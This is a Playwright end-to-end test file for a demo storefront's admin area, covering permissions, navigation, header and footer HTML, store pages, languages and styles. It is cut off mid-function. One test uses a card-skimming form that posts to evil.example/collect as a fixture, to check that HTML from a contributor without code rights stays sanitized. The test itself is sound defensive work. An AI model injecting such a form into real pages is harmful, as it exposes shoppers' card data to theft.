import {
  accessibilityViolations,
  expect,
  recordScripts,
  settle,
  signInThroughApi,
  switchOffFailure,
  switchOnFailure,
  test,
} from './fixtures';
import { seedAccount } from '../../demo/server/accounts';
import { editorNavigation, headerNavigation, openAdmin, resetSiteAdmin } from './admin-fixtures';

// Each admin page carries a live preview of the storefront in a frame, which every accessibility
// check reads too: on a busy two-core machine a whole flow with its checks needs more than 30 s.
test.describe.configure({ timeout: 60_000 });
test.beforeEach(async ({ demo, page }) => {
  resetSiteAdmin(demo);
  // The admin is the owner's: every test works as the seeded admin (every permission).
  await signInThroughApi(page, 'owner@example.com');
});
test.afterEach(({ demo }) => resetSiteAdmin(demo));

const ADMIN_CHUNK = /\/assets\/storefront\/admin[-.]/;

test.describe('who may open the admin', () => {
  test('a visitor signs in on the page /config sends them to and comes back to the editor; a customer gets the 403 page and none of the admin’s code', async ({
    browser,
    demo,
  }) => {
    const visitorContext = await browser.newContext({ baseURL: demo.url });
    const visitor = await visitorContext.newPage();
    const refused = await visitor.goto('/config/navigation');
    expect(refused?.status()).toBe(401);
    await expect(visitor.getByRole('heading', { level: 1 })).toHaveText('Sign in');
    expect(await accessibilityViolations(visitor)).toEqual([]);
    const owner = seedAccount('owner@example.com');
    await visitor.getByLabel('Email').fill(owner.email);
    await visitor.getByLabel('Password').fill(owner.password);
    await visitor.getByLabel('Password').press('Enter');
    await expect(visitor).toHaveURL(/\/config\/navigation$/);
    await expect(visitor.locator('[data-widget="admin"] .admin-editor')).toBeVisible();
    await visitorContext.close();

    const customerContext = await browser.newContext({ baseURL: demo.url });
    const customer = await customerContext.newPage();
    await signInThroughApi(customer, 'customer@example.com');
    const scripts = recordScripts(customer);
    const forbidden = await customer.goto('/config');
    expect(forbidden?.status()).toBe(403);
    await expect(customer.getByRole('heading', { level: 1 })).toHaveText('Not allowed');
    await expect(customer.locator('main code')).toHaveText('admin:open');
    await settle(customer);
    expect((await scripts.paths()).filter((path) => ADMIN_CHUNK.test(path))).toEqual([]);
    expect((await customer.request.get('/api/commondata/GetSiteLayout')).status()).toBe(403);
    expect(await accessibilityViolations(customer)).toEqual([]);
    await customerContext.close();
  });
});

test.describe('what the admin costs the storefront', () => {
  test('a storefront page downloads none of the admin’s code; an admin page downloads its editor only', async ({ page }) => {
    const shop = recordScripts(page);
    await page.goto('/shop');
    await settle(page);
    expect((await shop.paths()).filter((path) => ADMIN_CHUNK.test(path))).toEqual([]);

    const admin = recordScripts(page);
    await openAdmin(page, '/config/header-footer');
    const paths = (await admin.paths()).filter((path) => ADMIN_CHUNK.test(path)).map((path) => path.replace(/-[\w-]{7}\.js$/, ''));
    expect(paths).toContain('/assets/storefront/admin-header-footer');
    expect(paths).not.toContain('/assets/storefront/admin-navigation');
  });
});

test.describe('header and footer', () => {
  test('the owner edits the footer by keyboard and sees it on /shop and in the preview', async ({ page }) => {
    await openAdmin(page, '/config/header-footer');
    expect(await accessibilityViolations(page)).toEqual([]);
    const footer = page.getByLabel('Footer HTML');
    await footer.focus();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.type('<p>Open Saturdays, 10 to 4</p>');
    await page.keyboard.press('Tab');
    await expect(page.getByRole('button', { name: 'Save' })).toBeFocused();
    await page.keyboard.press('Enter');
    await expect(page.getByRole('status').filter({ hasText: 'Saved.' })).toHaveText('Saved. Every page shows the change on its next load.');
    await expect(page.frameLocator('iframe.admin-preview__frame').locator('footer.site-footer')).toHaveText('Open Saturdays, 10 to 4');
    expect(await accessibilityViolations(page)).toEqual([]);

    await page.goto('/shop');
    await expect(page.locator('footer.site-footer')).toHaveText('Open Saturdays, 10 to 4');
  });

  test('a failed save says why where it failed, and keeps what was typed', async ({ page, context, demo }) => {
    await openAdmin(page, '/config/header-footer');
    await page.getByLabel('Header HTML').fill('<p>Sale this week</p>');
    await switchOnFailure(context, demo, 'server-error');
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page.getByRole('alert')).toHaveText(
      /Something went wrong\s+The server could not complete this request\. Please try again\./,
    );
    await expect(page.getByLabel('Header HTML')).toHaveText('<p>Sale this week</p>');
    expect(await accessibilityViolations(page)).toEqual([]);

    await switchOffFailure(context);
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Saved.' })).toBeVisible();
    await expect(page.getByRole('alert')).toHaveCount(0);
  });

  test('leaving with unsaved changes asks to save or discard, the browser’s own navigation included', async ({ page }) => {
    await openAdmin(page, '/config/header-footer');
    await page.getByLabel('Header HTML').fill('<p>Half written');
    await page.locator('.config-nav').getByRole('link', { name: 'Navigation' }).click();
    const prompt = page.getByRole('dialog', { name: 'Unsaved changes' });
    await expect(prompt).toBeVisible();
    expect(await accessibilityViolations(page)).toEqual([]);
    await page.keyboard.press('Escape');
    await expect(prompt).toHaveCount(0);
    await expect(page).toHaveURL(/\/config\/header-footer$/);

    // The browser's own question, for a reload, a typed address or closing the tab.
    const asked = new Promise<string>((resolve) =>
      page.once('dialog', (dialog) => void dialog.dismiss().then(() => resolve(dialog.type()))),
    );
    await page.close({ runBeforeUnload: true });
    expect(await asked).toBe('beforeunload');
    // The page stays, still holding unsaved changes: the context's own closing after the test must
    // not meet the question again and wait on it, so any further one is answered "leave".
    page.on('dialog', (dialog) => void dialog.accept());
  });

  test('save and leave saves, then goes; discard goes without saving', async ({ page }) => {
    await openAdmin(page, '/config/header-footer');
    await page.getByLabel('Header HTML').fill('<p>Kept</p>');
    await page.locator('.config-nav').getByRole('link', { name: 'Languages' }).click();
    await page.getByRole('button', { name: 'Save and leave' }).click();
    await expect(page).toHaveURL(/\/config\/languages$/);
    await openAdmin(page, '/config/header-footer');
    await expect(page.getByLabel('Header HTML')).toHaveText('<p>Kept</p>');

    await page.getByLabel('Header HTML').fill('<p>Dropped</p>');
    await page.locator('.config-nav').getByRole('link', { name: 'Overview' }).click();
    await page.getByRole('button', { name: 'Discard changes' }).last().click();
    await expect(page).toHaveURL(/\/config$/);
    await page.goto('/shop');
    await expect(page.locator('.site-header-html')).toHaveText('Kept');
  });
});

test.describe('header HTML a contributor without code rights wrote', () => {
  test('stays sanitized when the owner saves the footer; the owner is told, and publishes it as written after confirming', async ({
    browser,
    demo,
    page,
  }) => {
    const offSite =
      '<form class="collect" action="https://evil.example/collect" method="post"><input name="card" aria-label="Card"></form><p>Sale</p>';
    const editorContext = await browser.newContext({ baseURL: demo.url });
    const editor = await editorContext.newPage();
    await signInThroughApi(editor, 'editor@example.com');
    await openAdmin(editor, '/config/header-footer');
    await editor.getByLabel('Header HTML').fill(offSite);
    await editor.getByRole('button', { name: 'Save' }).click();
    await expect(editor.getByRole('status').filter({ hasText: 'Saved.' })).toBeVisible();
    // The editor is told too, and has no way to publish it.
    await expect(editor.getByRole('note', { name: 'Header HTML: held sanitized' })).toHaveText(
      'Written by a contributor without code rights: shown sanitized.',
    );
    await expect(editor.getByRole('button', { name: 'Publish as written' })).toHaveCount(0);
    await editorContext.close();

    await openAdmin(page, '/config/header-footer');
    const note = page.getByRole('note', { name: 'Header HTML: held sanitized' });
    await expect(note).toContainText('Written by a contributor without code rights: shown sanitized.');
    await expect(page.getByRole('note', { name: 'Footer HTML: held sanitized' })).toHaveCount(0);
    await page.getByLabel('Footer HTML').fill('<p>© Studio</p>');
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Saved.' })).toBeVisible();
    await expect(note).toBeVisible();
    expect(await accessibilityViolations(page)).toEqual([]);

    const guest = await browser.newPage({ baseURL: demo.url });
    await guest.goto('/shop');
    await expect(guest.locator('.site-header-html')).toHaveText('Sale');
    await expect(guest.locator('.site-header-html form')).toHaveCount(0);

    await note.getByRole('button', { name: 'Publish as written' }).click();
    const dialog = page.getByRole('dialog', { name: 'Publish the header as written?' });
    await expect(dialog).toBeVisible();
    await dialog.getByRole('button', { name: 'Publish as written' }).click();
    await expect(dialog).toHaveCount(0);
    await expect(page.getByRole('status').filter({ hasText: 'published' })).toHaveText(
      'Header HTML published as written. Every page shows it on its next load.',
    );
    await expect(note).toHaveCount(0);

    await guest.reload();
    await expect(guest.locator('.site-header-html form.collect')).toHaveAttribute('action', 'https://evil.example/collect');
    await guest.close();
  });
});

test.describe('navigation', () => {
  test('the owner reorders by keyboard, saves, and the header follows', async ({ page }) => {
    await openAdmin(page, '/config/navigation');
    expect(await accessibilityViolations(page)).toEqual([]);
    await page.getByRole('button', { name: 'Reorder Cart' }).focus();
    // Each key waits for the move's announcement, as a screen-reader user would hear it.
    const announced = (text: string) => expect(page.getByText(text, { exact: true })).toBeAttached();
    await page.keyboard.press('Space');
    await expect(page.getByRole('button', { name: 'Reorder Cart' })).toHaveAttribute('aria-pressed', 'true');
    for (const position of [4, 3, 2, 1]) {
      await page.keyboard.press('ArrowUp');
      await announced(`Cart moved to position ${position} of 5.`);
    }
    await page.keyboard.press('Space');
    await announced('Cart dropped at position 1 of 5.');
    await expect.poll(() => editorNavigation(page)).toEqual(['Cart', 'Shop', 'Journal', 'Events', 'Gallery']);
    await page.getByRole('button', { name: 'Save navigation' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Navigation saved' })).toBeVisible();
    await page.goto('/');
    expect(await headerNavigation(page)).toEqual(['Cart', 'Shop', 'Journal', 'Events', 'Gallery']);
  });

  test('the owner reorders by mouse, and the first press on Save after the drop saves, once', async ({ page }) => {
    await page.clock.install();
    await openAdmin(page, '/config/navigation');
    const saves: string[] = [];
    page.on('request', (request) => {
      if (request.method() === 'POST' && request.url().endsWith('/api/widget/UpdateNavigation')) saves.push(request.url());
    });
    const handle = page.getByRole('button', { name: 'Reorder Shop' });
    const target = page.getByRole('button', { name: 'Reorder Events' });
    // Away from the window's edges, where the list would scroll itself under the pointer as it drags.
    await handle.evaluate((element) => element.scrollIntoView({ block: 'center' }));
    const from = await handle.boundingBox();
    const to = await target.boundingBox();
    if (from === null || to === null) throw new Error('The handles are not on screen');
    // The page's timers stop before the drag: the press on Save below comes before any timer set at
    // the drop has run, as a waiting press does on a busy machine (the browser runs input before a
    // late timer), whatever the speed of this one.
    await page.clock.pauseAt((await page.evaluate(() => Date.now())) + 1_000);
    await page.mouse.move(from.x + from.width / 2, from.y + from.height / 2);
    await page.mouse.down();
    await page.mouse.move(from.x + from.width / 2, from.y + from.height / 2 + 10, { steps: 3 });
    await page.mouse.move(to.x + to.width / 2, to.y + to.height / 2 + 5, { steps: 12 });
    await page.mouse.up();
    await expect.poll(() => editorNavigation(page)).toEqual(['Journal', 'Events', 'Shop', 'Gallery', 'Cart']);
    await page.getByRole('button', { name: 'Save navigation' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Navigation saved' })).toBeVisible();
    expect(saves).toHaveLength(1);
    await page.clock.resume();
    await page.goto('/');
    expect(await headerNavigation(page)).toEqual(['Journal', 'Events', 'Shop', 'Gallery', 'Cart']);
  });

  test('the owner adds a folder and a link, nests, removes after confirming, and the header renders the tree', async ({ page }) => {
    await openAdmin(page, '/config/navigation');
    await page.getByRole('radio', { name: 'A folder' }).check();
    await page.getByLabel('Label', { exact: true }).fill('Visit');
    await page.getByRole('button', { name: 'Add folder' }).click();
    await page.getByRole('radio', { name: 'A link' }).check();
    await page.getByLabel('Label', { exact: true }).fill('Map');
    await page.getByLabel('Address', { exact: true }).fill('not a url');
    await page.getByRole('button', { name: 'Add link' }).click();
    await expect(page.getByRole('alert')).toHaveText('Links must be formatted as www.example.com or https://www.example.com');
    await page.getByLabel('Address', { exact: true }).fill('https://maps.example.com');
    await page.getByRole('button', { name: 'Add link' }).click();

    await page.getByLabel('Move Events to').selectOption({ label: 'Folder Visit' });
    await page.getByLabel('Move Map to').selectOption({ label: 'Folder Visit' });
    await expect.poll(() => editorNavigation(page)).toEqual(['Shop', 'Journal', 'Gallery', 'Cart', ['Visit', ['Events', 'Map']]]);
    expect(await accessibilityViolations(page)).toEqual([]);

    await page.getByRole('button', { name: 'Remove Gallery' }).click();
    const confirm = page.getByRole('dialog', { name: 'Remove Gallery?' });
    await expect(confirm).toBeVisible();
    expect(await accessibilityViolations(page)).toEqual([]);
    await confirm.getByRole('button', { name: 'Cancel' }).click();
    await expect.poll(() => editorNavigation(page)).toContain('Gallery');
    await page.getByRole('button', { name: 'Remove Gallery' }).click();
    await page.getByRole('dialog', { name: 'Remove Gallery?' }).getByRole('button', { name: 'Remove' }).click();
    await expect.poll(() => editorNavigation(page)).toEqual(['Shop', 'Journal', 'Cart', ['Visit', ['Events', 'Map']]]);

    await page.getByRole('button', { name: 'Save navigation' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Navigation saved' })).toBeVisible();
    await page.goto('/shop');
    expect(await headerNavigation(page)).toEqual(['Shop', 'Journal', 'Cart', ['Visit', ['Events', 'Map']]]);
    expect(await accessibilityViolations(page)).toEqual([]);
  });
});

test.describe('the link editor', () => {
  test('the owner links an uploaded file and an email from the navigation, and the header writes their hrefs', async ({ page }) => {
    await openAdmin(page, '/config/files');
    await page
      .getByLabel('Choose files')
      .setInputFiles({ name: 'care guide.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.4') });
    await expect(page.getByRole('status').filter({ hasText: 'uploaded' })).toHaveText('care guide.pdf uploaded.');

    await openAdmin(page, '/config/navigation');
    await page.getByRole('radio', { name: 'A link' }).check();
    await page.getByLabel('Label', { exact: true }).fill('Care guide');
    await page.getByRole('radio', { name: 'File' }).check();
    await page.getByRole('button', { name: 'Add link' }).click();
    await expect(page.getByRole('alert')).toHaveText('Choose a file to link to');
    await page.getByLabel('File to link').selectOption({ label: 'care guide.pdf (8 bytes)' });
    await page.getByRole('button', { name: 'Add link' }).click();

    await page.getByLabel('Label', { exact: true }).fill('Write to us');
    await page.getByRole('radio', { name: 'Email' }).check();
    await page.getByLabel('To', { exact: true }).fill('hello@');
    await page.getByLabel('CC', { exact: true }).fill('nobody');
    await page.getByRole('button', { name: 'Add link' }).click();
    await expect(
      page.getByText('A valid email address is required. Email addresses must follow the standard format: name@example.com').first(),
    ).toBeVisible();
    await expect(page.getByText('nobody is not a valid email address')).toBeVisible();
    expect(await accessibilityViolations(page)).toEqual([]);
    await page.getByLabel('To', { exact: true }).fill('hello@example.com');
    await page.getByLabel('Subject', { exact: true }).fill('Order & delivery');
    await page.getByLabel('CC', { exact: true }).fill('');
    await page.getByRole('button', { name: 'Add link' }).click();
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Saved' })).toBeVisible();

    await page.goto('/shop');
    const fileLink = page.locator('nav.site-nav a', { hasText: 'Care guide' });
    await expect(fileLink).toHaveAttribute('href', /^\/files\/[^/]+\/care%20guide\.pdf$|^\/files\/[^/]+\/care guide\.pdf$/);
    await expect(page.locator('nav.site-nav a', { hasText: 'Write to us' })).toHaveAttribute(
      'href',
      'mailto:hello@example.com?subject=Order%20%26%20delivery',
    );
    const download = page.waitForEvent('download');
    await fileLink.click();
    expect((await download).suggestedFilename()).toBe('care guide.pdf');
  });
});

test.describe('a navigation link in a new window', () => {
  test('the owner chooses it when adding a link and changes it after; the header opens it in a new window, and the editor reads it back', async ({
    page,
  }) => {
    await openAdmin(page, '/config/navigation');
    await page.getByRole('radio', { name: 'A link' }).check();
    await page.getByLabel('Label', { exact: true }).fill('Map');
    await page.getByLabel('Address', { exact: true }).fill('maps.example.com');
    await page.getByRole('checkbox', { name: 'Open in a new window' }).check();
    await page.getByRole('button', { name: 'Add link' }).click();
    const mapChoice = page.getByRole('checkbox', { name: 'Open Map in a new window' });
    await expect(mapChoice).toBeChecked();
    await page.getByLabel('Label', { exact: true }).fill('Press');
    await page.getByRole('radio', { name: 'Page', exact: true }).check();
    await page.getByLabel('Page to link').selectOption({ label: 'Journal (/blog)' });
    await page.getByRole('button', { name: 'Add link' }).click();
    // Chosen after adding, by keyboard.
    const pressChoice = page.getByRole('checkbox', { name: 'Open Press in a new window' });
    await expect(pressChoice).not.toBeChecked();
    await pressChoice.focus();
    await page.keyboard.press('Space');
    await expect(pressChoice).toBeChecked();
    expect(await accessibilityViolations(page)).toEqual([]);
    await page.getByRole('button', { name: 'Save navigation' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Navigation saved' })).toBeVisible();

    await page.reload();
    await expect(page.getByText(/^Loading the /)).toHaveCount(0);
    await expect(page.getByRole('checkbox', { name: 'Open Map in a new window' })).toBeChecked();
    await expect(page.getByRole('checkbox', { name: 'Open Press in a new window' })).toBeChecked();

    await page.goto('/shop');
    const map = page.locator('nav.site-nav a', { hasText: 'Map' });
    await expect(map).toHaveAttribute('href', 'https://maps.example.com');
    await expect(map).toHaveAttribute('target', '_blank');
    await expect(map).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(map).toHaveAccessibleName('Map (opens in a new window)');
    // A page of the site's own opens in a new window too, and the site stays where it was.
    const press = page.locator('nav.site-nav a', { hasText: 'Press' });
    await expect(press).toHaveAttribute('target', '_blank');
    await expect(page.locator('nav.site-nav a', { hasText: 'Journal' }).first()).not.toHaveAttribute('target', /.*/);
    const opened = page.context().waitForEvent('page');
    await press.click();
    const tab = await opened;
    await tab.waitForLoadState();
    expect(new URL(tab.url()).pathname).toBe('/blog');
    // `noopener`: the new window has no handle on the shop's.
    expect(await tab.evaluate(() => window.opener)).toBeNull();
    expect(new URL(page.url()).pathname).toBe('/shop');
    expect(await accessibilityViolations(page)).toEqual([]);
  });
});

test.describe('store pages', () => {
  test('creating “Ceramics” twice gives ceramics, then ceramics-1, each rendered at its URL with its empty state', async ({ page }) => {
    await openAdmin(page, '/config/store-pages');
    expect(await accessibilityViolations(page)).toEqual([]);
    const title = page.getByLabel('Page title');
    const urlId = page.getByLabel('URL id');
    await expect(urlId).toHaveAccessibleDescription('Empty: derived from the title, made unique among the site’s pages.');
    await title.pressSequentially('Ceramics');
    // The field stays empty: the id follows the title, and the hint says exactly where the page will be.
    await expect(urlId).toHaveValue('');
    await expect(urlId).toHaveAccessibleDescription('The page will be at /ceramics.');
    await page.getByLabel('Description').fill('Bowls, cups and plates.');
    await page.getByRole('button', { name: 'Create store page' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Created' })).toHaveText('Created “Ceramics” at /ceramics.');

    await title.pressSequentially('Ceramics');
    await expect(page.getByText('The page will be at /ceramics-1.')).toBeVisible();
    await page.getByRole('button', { name: 'Create store page' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Created' })).toHaveText('Created “Ceramics” at /ceramics-1.');
    expect(await accessibilityViolations(page)).toEqual([]);

    await page.goto('/ceramics-1');
    await expect(page.locator('main h1')).toHaveText('Ceramics');
    await expect(page.locator('.store-empty')).toHaveText('There are no products in this store yet. Check back soon.');
    expect(await headerNavigation(page)).toEqual(['Shop', 'Journal', 'Events', 'Gallery', 'Cart', 'Ceramics', 'Ceramics']);
    expect(await accessibilityViolations(page)).toEqual([]);
  });

  test('a store manager, who may not edit the navigation, creates a store page where the hint said and sees the site’s pages', async ({
    page,
  }) => {
    await page.context().clearCookies();
    await signInThroughApi(page, 'store@example.com');
    await openAdmin(page, '/config/store-pages');
    await expect(page.getByRole('alert')).toHaveCount(0);
    await expect(page.getByRole('checkbox', { name: 'Add to the main navigation' })).toHaveCount(0);
    await page.getByLabel('Page title').pressSequentially('Shop');
    await expect(page.getByLabel('URL id')).toHaveAccessibleDescription('The page will be at /shop-1.');
    await page.getByRole('button', { name: 'Create store page' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Created' })).toHaveText('Created “Shop” at /shop-1.');

    await openAdmin(page, '/config');
    await expect(page.getByRole('region', { name: 'Edit the site' }).getByRole('link')).toHaveText(['Store pages']);
    const pages = page.getByRole('region', { name: 'Pages' });
    await expect(pages.getByRole('link', { name: 'Journal' })).toBeVisible();
    await expect(pages.getByText('Shop', { exact: true })).toHaveCount(2);
    expect(await accessibilityViolations(page)).toEqual([]);
  });

  test('a written URL id is made a URL id and suffixed; each refusal takes focus beside its field with nothing lost', async ({ page }) => {
    await openAdmin(page, '/config/store-pages');
    const title = page.getByLabel('Page title');
    const description = page.getByLabel('Description');
    await description.fill('Kept');
    await page.getByRole('button', { name: 'Create store page' }).click();
    await expect(title).toBeFocused();
    await expect(title).toHaveAttribute('aria-invalid', 'true');
    await expect(title).toHaveAccessibleDescription('Enter a title');
    await expect(description).toHaveValue('Kept');
    expect(await accessibilityViolations(page)).toEqual([]);

    await title.fill('Tea things');
    await expect(title).not.toHaveAttribute('aria-invalid', 'true');
    await page.getByLabel('URL id').fill('Shop');
    await expect(page.getByText('The page will be at /shop-1.')).toBeVisible();
    await description.fill('x'.repeat(1001));
    await expect(page.getByRole('alert')).toHaveText('A description can have at most 1,000 characters');
    await page.getByRole('button', { name: 'Create store page' }).click();
    await expect(description).toBeFocused();
    await expect(description).toHaveAccessibleDescription(/^A description can have at most 1,000 characters/);
    await description.fill('Cups and pots.');
    await page.getByRole('button', { name: 'Create store page' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Created' })).toHaveText('Created “Tea things” at /shop-1.');
  });

  test('the owner adds nested categories, and the store page lists them as a tree', async ({ page }) => {
    await openAdmin(page, '/config/store-pages');
    const shop = page.getByRole('article', { name: 'Shop' });
    await shop.getByText('Categories of Shop').click();
    await shop.getByLabel('Category name').fill('Bowls');
    await shop.getByRole('button', { name: 'Add category' }).click();
    await expect(shop.getByRole('status')).toHaveText('Category “Bowls” added.');
    await shop.getByLabel('Category name').fill('Rice bowls');
    await shop.getByLabel('Inside').selectOption({ label: 'Bowls' });
    await shop.getByRole('button', { name: 'Add category' }).click();
    await expect(shop.getByRole('status')).toHaveText('Category “Rice bowls” added.');
    await expect(shop.locator('.admin-tree-categories > ul > li')).toHaveText('BowlsRice bowls');
    await shop.getByLabel('Category name').fill('x'.repeat(26));
    await shop.getByRole('button', { name: 'Add category' }).click();
    await expect(shop.getByRole('alert')).toHaveText('A category name can have at most 25 characters');
    expect(await accessibilityViolations(page)).toEqual([]);

    await page.goto('/shop');
    await expect(page.locator('.store-categories > ul > li > ul > li')).toHaveText('Rice bowls');
  });

  test('products moved into a new store page show there', async ({ page }) => {
    await openAdmin(page, '/config/store-pages');
    await page.getByLabel('Page title').fill('Homeware');
    await page.getByRole('button', { name: 'Create store page' }).click();
    const homeware = page.getByRole('article', { name: 'Homeware' });
    await homeware.getByText('Move products into Homeware').click();
    await homeware.getByRole('checkbox', { name: /Stoneware Vase/ }).check();
    await homeware.getByRole('button', { name: 'Move to Homeware' }).click();
    await expect(homeware.getByRole('status')).toHaveText('1 product moved to Homeware.');
    await page.goto('/homeware');
    await expect(page.locator('.product-card h2')).toHaveText('Stoneware Vase');
  });
});

test.describe('languages', () => {
  test('the owner adds a language, the storefront offers a switcher; removing asks first', async ({ page }) => {
    await openAdmin(page, '/config/languages');
    expect(await accessibilityViolations(page)).toEqual([]);
    await page.getByLabel('Add a language').selectOption({ label: 'French (France)' });
    await page.getByRole('button', { name: 'Add language' }).click();
    await expect(page.getByRole('status')).toHaveText('French (France) added.');
    await page.goto('/shop');
    await expect(page.getByRole('navigation', { name: 'Language' }).getByRole('link')).toHaveText([
      'English (United States)',
      'French (France)',
    ]);

    await openAdmin(page, '/config/languages');
    await page.getByRole('button', { name: 'Remove French (France)' }).click();
    await page.getByRole('dialog', { name: 'Remove French (France)?' }).getByRole('button', { name: 'Remove' }).click();
    await expect(page.getByRole('status')).toHaveText('French (France) removed.');
    await page.goto('/shop');
    await expect(page.getByRole('navigation', { name: 'Language' })).toHaveCount(0);
  });

  test('a failed change is undone with a message', async ({ page, context, demo }) => {
    await openAdmin(page, '/config/languages');
    await switchOnFailure(context, demo, 'rate-limit');
    await page.getByRole('button', { name: 'Add language' }).click();
    await expect(page.getByRole('alert')).toContainText('The change was undone.');
    await expect(page.getByRole('listitem').filter({ hasText: 'French' })).toHaveCount(0);
    expect(await accessibilityViolations(page)).toEqual([]);
  });

  test('disconnecting the translation service keeps the dialog open while it runs', async ({ page }) => {
    await openAdmin(page, '/config/languages');
    await expect(page.getByText('Connected to Demo Translate.')).toBeVisible();
    await page.getByRole('button', { name: 'Disconnect' }).click();
    const dialog = page.getByRole('dialog', { name: 'Disconnect Demo Translate?' });
    // The request is held until the dialog has shown it running, then let through.
    let answer!: () => void;
    const answered = new Promise<void>((resolve) => (answer = resolve));
    await page.route('**/api/multilingual/connection', async (route) => {
      await answered;
      await route.continue();
    });
    await dialog.getByRole('button', { name: 'Disconnect' }).click();
    await expect(dialog.getByRole('button', { name: 'Disconnecting…' })).toBeVisible();
    await expect(dialog.getByRole('button', { name: 'Disconnecting…' })).toBeDisabled();
    answer();
    await expect(dialog).toHaveCount(0);
    await expect(page.getByText('Not connected.')).toBeVisible();
  });
});

test.describe('site styles', () => {
  test('the owner picks a heading font and an accent by keyboard, and /shop changes', async ({ page }) => {
    await openAdmin(page, '/config/styles');
    expect(await accessibilityViolations(page)).toEqual([]);
    const heading = page.getByRole('group', { name: /^Heading font:/ });
    // Browse by category: Serif shows the serif families only, each written in itself.
    await heading.getByRole('button', { name: 'Serif', exact: true }).click();
    await expect(heading.getByRole('radio')).toHaveCount(2);
    const playfair = heading.getByRole('radio', { name: /Playfair Display/ });
    await expect(heading.locator('.font-picker__name', { hasText: 'Playfair Display' })).toHaveCSS('font-family', /^"Playfair Display"/);
    await playfair.focus();
    await page.keyboard.press('Space');
    await expect(playfair).toBeChecked();
    await expect(heading.locator('legend')).toHaveText('Heading font: Playfair Display');

    const accent = page.getByRole('group', { name: /^Accent colour/ }).first();
    const hex = accent.getByRole('textbox', { name: /^Hex/ });
    await hex.fill('#12');
    await expect(accent.getByText('Enter a hex colour of 3 to 6 digits, such as #0b57d0.')).toBeVisible();
    await hex.fill('#b00060');
    // In step: RGB and HSL follow the hex.
    await expect(accent.getByRole('textbox', { name: /^Red/ })).toHaveValue('176');
    await expect(accent.getByRole('textbox', { name: /^Green/ })).toHaveValue('0');
    await expect(accent.getByRole('textbox', { name: /^Blue/ })).toHaveValue('96');
    await expect(accent.getByRole('textbox', { name: /^Hue/ })).toHaveValue('327.3');
    await expect(accent.getByRole('textbox', { name: /^Saturation/ })).toHaveValue('1');
    expect(await accessibilityViolations(page)).toEqual([]);

    await page.getByRole('button', { name: 'Save' }).press('Enter');
    await expect(page.getByRole('status').filter({ hasText: 'Saved.' })).toHaveText(
      'Saved. Every page uses the new styles on its next load.',
    );

    await page.goto('/shop');
    await expect(page.locator('h1').first()).toHaveCSS('font-family', /^"Playfair Display"/);
    expect(await page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--site-accent-color').trim())).toBe(
      'hsla(327.27, 100%, 34.51%, 1)',
    );
    await expect(page.locator('main a').first()).toHaveCSS('color', 'rgb(176, 0, 96)');
  });

  test('text too faint on the background is warned about; values out of bounds are refused with the formatter’s words', async ({
    page,
  }) => {
    await openAdmin(page, '/config/styles');
    const text = page.getByRole('group', { name: /^Text colour/ }).first();
    await text.getByRole('textbox', { name: /^Lightness/ }).fill('0.8');
    await expect(page.locator('.admin-warning')).toContainText('Text on the background has a contrast of');
    await expect(page.locator('.admin-warning')).toContainText('below the 4.5:1 WCAG AA asks for');
    await text.getByRole('textbox', { name: /^Lightness/ }).fill('0.1');
    await expect(page.locator('.admin-warning')).toHaveCount(0);

    await text.getByRole('textbox', { name: /^Hue/ }).fill('400');
    await expect(text.getByText('Hue out of bounds.')).toBeVisible();
    await text.getByRole('textbox', { name: /^Alpha/ }).fill('');
    await expect(text.getByText('Missing an H/S/L value.')).toBeVisible();
    expect(await accessibilityViolations(page)).toEqual([]);
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page.getByRole('alert').filter({ hasText: 'Update the missing or invalid information above.' })).toBeVisible();
    await expect(text.getByRole('textbox', { name: /^Hue/ })).toBeFocused();
    // What was typed is kept; nothing was saved.
    await expect(text.getByRole('textbox', { name: /^Hue/ })).toHaveValue('400');
    await page.getByRole('button', { name: 'Discard changes' }).click();
    await expect(text.getByRole('textbox', { name: /^Hue/ })).not.toHaveValue('400');
  });

  test('a font that cannot load says so in place; a font list that cannot load offers a retry', async ({ page }) => {
    await page.route('**/fonts/pacifico/**', (route) => route.abort());
    let failFonts = true;
    await page.route('**/api/admin/fonts', (route) =>
      failFonts ? route.fulfill({ status: 500, json: { error: 'The font list is unavailable' } }) : route.fallback(),
    );
    await openAdmin(page, '/config/styles');
    await expect(page.getByRole('alert').filter({ hasText: 'Unable to load fonts' })).toBeVisible();
    failFonts = false;
    await page.getByRole('button', { name: 'Try again' }).click();
    const body = page.getByRole('group', { name: /^Body font:/ });
    await body.getByRole('button', { name: 'Script', exact: true }).click();
    await expect(body.getByText('Unable to load preview for Pacifico')).toBeVisible();
    // The family is still offered, in its fallback.
    await body.getByRole('radio', { name: /Pacifico/ }).check();
    await expect(body.locator('legend')).toHaveText('Body font: Pacifico');
  });

  test('the colour area and sliders move the fields with the arrow keys', async ({ page }) => {
    await openAdmin(page, '/config/styles');
    const accent = page.getByRole('group', { name: /^Accent colour/ }).first();
    const before = await accent.getByRole('textbox', { name: /^Hue/ }).inputValue();
    await accent.getByRole('slider', { name: 'Hue' }).focus();
    await page.keyboard.press('ArrowRight');
    await expect(accent.getByRole('textbox', { name: /^Hue/ })).not.toHaveValue(before);
    await accent.getByRole('slider', { name: 'Alpha' }).focus();
    await page.keyboard.press('ArrowLeft');
    await expect(accent.getByRole('textbox', { name: /^Alpha/ })).toHaveValue('0.95');
  });
});

test.describe('files', () => {
  // A real picture: a 2 × 3 PNG, padded with a text chunk to a size whose upload shows progress.
  const PNG_HEADER = '89504e470d0a1a0a0000000d49484452000000020000000308060000009d74ad7d';
  const picture = (padding: number) => {
    const text = Buffer.alloc(padding, 0x61);
